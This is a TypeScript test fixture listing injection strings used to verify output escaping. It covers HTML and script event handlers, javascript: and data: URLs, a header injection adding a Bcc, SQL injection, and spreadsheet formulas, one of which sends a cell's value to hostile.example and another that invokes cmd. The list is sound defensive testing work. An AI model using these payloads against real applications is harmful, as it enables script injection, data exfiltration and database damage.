/**
 * Texts that become active where they are not escaped (security.md, W4): they would make an element or an attribute named `data-hostile`, an
 * address of another scheme, or set `window.hostile`. Server and component tests put each of them into every text field.
 */
export const HOSTILE_TEXTS = {
  element: 'Ann <img src=x data-hostile onerror="window.hostile=1"> Lee',
  script: '</title></style></textarea><script data-hostile>window.hostile=1</script>',
  doubleQuoted: '" data-hostile onmouseover="window.hostile=1" autofocus onfocus="window.hostile=1',
  singleQuoted: "' data-hostile onmouseover='window.hostile=1' autofocus onfocus='window.hostile=1",
  unquoted: 'x data-hostile onfocus=window.hostile=1 autofocus',
  comment: '--><svg data-hostile onload=window.hostile=1></svg><!--',
  entities: '&lt;img src=x data-hostile onerror=window.hostile=1&gt; &#60;b data-hostile&#62;',
  /** Placeholders of our messages, and of other template languages. */
  // biome-ignore lint/suspicious/noTemplateCurlyInString: exactly that must stay text
  templates: '{{name}} {{- name}} $t(common:product) ${window.hostile=1} #{1} <%= 1 %> %s %n {0} $& $1 $`',
  /** Placeholders for the parts of a sentence that are links or bold. */
  parts: '<0>a</0> <1 data-hostile>b</1> <link>c</link> <strong>d</strong> <br/>',
  address: 'javascript:window.hostile=1//',
  hiddenAddress: '\u0001java\tscript:window.hostile=1//',
  dataAddress: 'data:text/html,<script data-hostile>window.hostile=1</script>',
  markdown: '[here](javascript:window.hostile=1) ![x](x "data-hostile")',
  formula: '=HYPERLINK("https://hostile.example/?"&A1,"Ann")',
  otherFormula: "@SUM(1+1)*cmd|' /C calc'!A0",
  direction: 'Ann \u202egnp.xslx\u202c \u2066Lee',
  invisible: 'A\u200bnn\u2060 Le\ufeffe\u00ad',
  control: 'Ann\u0000\u0007\u001b[31m Lee\u0085',
  lines: 'Ann\r\nBcc: all@hostile.example\r\n\r\n<b data-hostile>Lee</b>',
  long: 'Ann'.repeat(300),
  statement: "Ann'); DROP TABLE checks; -- \\' OR 1=1",
} as const;
